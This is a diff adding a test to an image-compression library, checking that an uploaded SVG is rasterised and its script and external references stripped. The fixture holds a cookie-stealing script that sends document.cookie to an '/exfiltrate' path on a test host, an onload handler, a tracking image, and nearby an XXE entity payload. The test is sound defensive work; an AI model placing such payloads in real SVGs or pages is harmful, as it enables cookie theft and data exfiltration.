@@ -176,6 +176,27 @@ describe("SVG with external references", () => {
     expect(hits).toEqual([]);
   });
 
+  it("never stores an SVG as uploaded: script and external references never reach the output", async () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256" onload="alert(1)">
+<script>fetch("${base}/exfiltrate?c="+document.cookie)</script>
+<defs><radialGradient id="g"><stop offset="0" stop-color="#f0a"/><stop offset="1" stop-color="#0af"/></radialGradient></defs>
+<circle cx="128" cy="128" r="120" fill="url(#g)"/><image href="${base}/tracker.png" width="1" height="1"/></svg>`;
+    const input = Buffer.from(svg);
+    for (const format of [ImageFormat.KEEP, ImageFormat.AUTO, ImageFormat.PNG]) {
+      const out = await compress(input, options({ format }), limits);
+      // The raster is larger than this small SVG: never-larger would have kept the original before.
+      expect([ImageFormat[format], out.kind, out.data.length > input.length]).toEqual([
+        ImageFormat[format],
+        "compressed",
+        true,
+      ]);
+      expect(out.format).not.toBe(ImageFormat.SVG);
+      expect(out.data.includes("<script")).toBe(false);
+      expect((await sharp(out.data).metadata()).format).toMatch(/^(png|jpeg|webp)$/);
+    }
+    expect(hits).toEqual([]);
+  });
+
   it("refuses entity declarations (XXE, billion laughs) as UNSUPPORTED_FORMAT", async () => {
     const svg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${base}/entity">]>
 <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>`;
